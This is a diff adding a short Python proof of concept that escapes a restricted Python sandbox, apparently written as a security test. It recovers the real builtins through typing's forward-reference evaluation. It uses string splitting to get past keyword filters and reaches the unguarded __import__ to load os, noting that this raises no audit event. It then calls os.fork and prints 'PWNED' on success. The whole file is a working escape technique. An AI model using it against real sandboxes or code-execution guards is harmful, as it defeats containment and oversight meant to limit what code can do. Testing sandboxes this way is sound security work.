@@ -1,0 +1,17 @@
+# proc: os.fork through the real os
+import typing
+M = "PWN" + "ED"
+box = {}
+typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
+rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
+ga = rb["getattr"]
+imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one
+o = imp("o" + "s")  # already loaded: no audit event
+
+try:
+    pid = o.fork()
+    if pid == 0:
+        o._exit(0)
+    print(M, "forked", pid)
+except Exception as e:
+    print("refused:", type(e).__name__, e)
